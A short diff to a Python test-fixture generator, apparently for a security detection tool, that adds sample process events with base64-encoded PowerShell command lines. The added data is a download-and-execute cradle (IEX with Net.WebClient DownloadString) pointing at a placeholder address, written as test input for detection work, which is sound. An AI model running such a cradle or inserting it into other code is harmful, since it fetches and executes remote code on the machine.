@@ -261,6 +261,10 @@ def _observables() -> Made:
             "process", pid=4711, command_line=f"powershell -enc {b64('Get-ChildItem C:/ | Sort-Object'.encode('utf-16-le'))}"
         ),
     )
+    downloads = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1');".encode("utf-16-le")
+    for times in (1, 8):
+        line = f"powershell.exe -NoProfile -Enc {b64(downloads * times)}"
+        yield f"a command in base64, {times}", _observable("process", pid=4711, command_line=line)
     yield (
         "a request",
         _observable(
